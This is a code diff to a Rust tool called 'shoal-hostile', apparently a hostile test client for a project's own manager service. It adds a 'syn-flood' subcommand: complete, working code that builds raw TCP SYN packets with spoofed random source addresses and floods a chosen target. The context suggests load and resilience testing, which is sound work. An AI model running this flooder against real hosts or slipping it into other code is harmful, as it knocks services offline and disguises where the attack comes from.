@@ -10,7 +10,11 @@
 //! shoal-hostile conn-flood --manager IP:PORT --token T --connections N --frames F --seconds S
 //! shoal-hostile report --manager IP:PORT --certs DIR --task ID
 //! shoal-hostile assignments --manager IP:PORT --certs DIR
+//! shoal-hostile syn-flood --target IP:PORT --count N
 //! ```
+//!
+//! `syn-flood` sends `N` TCP SYNs from random sources of 100.64.0.0/10 (a raw socket, so the
+//! sources are spoofed) as fast as it can, and prints `{"ok":true,"sent":N,"seconds":S}`.
 //!
 //! `report` says the task is running; `assignments` opens the node's assignment stream and
 //! answers with its first message.
@@ -328,6 +332,107 @@ async fn as_node(args: &[String], which: &str) -> Result<Answer, String> {
     })
 }
 
+/// The one's complement sum of `data` as 16-bit big-endian words, folded.
+fn ones_sum(data: &[u8], mut sum: u32) -> u32 {
+    for chunk in data.chunks(2) {
+        let word = match chunk {
+            [a, b] => u16::from_be_bytes([*a, *b]),
+            [a] => u16::from_be_bytes([*a, 0]),
+            _ => 0,
+        };
+        sum += u32::from(word);
+    }
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    sum
+}
+
+/// A TCP SYN from `src` to `dst`, IPv4 header included, checksums right.
+fn syn_packet(src: (std::net::Ipv4Addr, u16), dst: std::net::SocketAddrV4, seq: u32) -> [u8; 40] {
+    let mut p = [0_u8; 40];
+    p[0] = 0x45;
+    p[2..4].copy_from_slice(&40_u16.to_be_bytes());
+    p[4..6].copy_from_slice(&(seq as u16).to_be_bytes());
+    p[8] = 64;
+    p[9] = 6;
+    p[12..16].copy_from_slice(&src.0.octets());
+    p[16..20].copy_from_slice(&dst.ip().octets());
+    let ip_check = !(ones_sum(&p[..20], 0) as u16);
+    p[10..12].copy_from_slice(&ip_check.to_be_bytes());
+    p[20..22].copy_from_slice(&src.1.to_be_bytes());
+    p[22..24].copy_from_slice(&dst.port().to_be_bytes());
+    p[24..28].copy_from_slice(&seq.to_be_bytes());
+    p[32] = 5 << 4;
+    p[33] = 0x02;
+    p[34..36].copy_from_slice(&64_240_u16.to_be_bytes());
+    let mut pseudo = [0_u8; 12];
+    pseudo[..4].copy_from_slice(&p[12..16]);
+    pseudo[4..8].copy_from_slice(&p[16..20]);
+    pseudo[9] = 6;
+    pseudo[10..12].copy_from_slice(&20_u16.to_be_bytes());
+    let tcp_check = !(ones_sum(&p[20..40], ones_sum(&pseudo, 0)) as u16);
+    p[36..38].copy_from_slice(&tcp_check.to_be_bytes());
+    p
+}
+
+fn syn_flood(args: &[String]) -> Result<serde_json::Value, String> {
+    let target: std::net::SocketAddrV4 = required(args, "--target")?
+        .parse()
+        .map_err(|e| format!("--target: {e}"))?;
+    let count = number(args, "--count")?;
+    // SAFETY: a plain socket(2) call; the descriptor is owned below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    if fd < 0 {
+        return Err(format!("a raw socket: {}", std::io::Error::last_os_error()));
+    }
+    // SAFETY: `fd` is a fresh descriptor nobody else owns.
+    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
+    let to = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr {
+            s_addr: u32::from_ne_bytes(target.ip().octets()),
+        },
+        sin_zero: [0; 8],
+    };
+    let mut state: u64 = 0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id());
+    let started = std::time::Instant::now();
+    let mut sent = 0_u64;
+    while sent < count {
+        // xorshift64: a spoofed source address, port and sequence number per SYN.
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        let bits = state as u32;
+        let src = std::net::Ipv4Addr::from(0x6440_0000 | (bits & 0x003f_ffff));
+        let sport = 1024 + ((state >> 32) as u16 % 60_000);
+        let packet = syn_packet((src, sport), target, (state >> 16) as u32);
+        // SAFETY: the buffer and the address live for the call, their lengths given.
+        let n = unsafe {
+            libc::sendto(
+                std::os::fd::AsRawFd::as_raw_fd(&socket),
+                packet.as_ptr().cast(),
+                packet.len(),
+                0,
+                (&raw const to).cast(),
+                size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        if n < 0 {
+            let e = std::io::Error::last_os_error();
+            if e.kind() == std::io::ErrorKind::WouldBlock || e.raw_os_error() == Some(libc::ENOBUFS)
+            {
+                std::thread::yield_now();
+                continue;
+            }
+            return Err(format!("sending a SYN: {e}"));
+        }
+        sent += 1;
+    }
+    Ok(json!({ "ok": true, "sent": sent, "seconds": started.elapsed().as_secs_f64() }))
+}
+
 async fn run(args: &[String]) -> Result<Answer, String> {
     match args.first().map(String::as_str) {
         Some("report") => as_node(&args[1..], "report").await,
@@ -347,6 +452,18 @@ async fn run(args: &[String]) -> Result<Answer, String> {
 #[tokio::main]
 async fn main() -> ExitCode {
     let args: Vec<String> = std::env::args().skip(1).collect();
+    if args.first().map(String::as_str) == Some("syn-flood") {
+        return match syn_flood(&args[1..]) {
+            Ok(report) => {
+                println!("{report}");
+                ExitCode::SUCCESS
+            }
+            Err(e) => {
+                eprintln!("shoal-hostile: {e}");
+                ExitCode::from(2)
+            }
+        };
+    }
     if args.first().map(String::as_str) == Some("conn-flood") {
         return match conn_flood(&args[1..]).await {
             Ok(report) => {
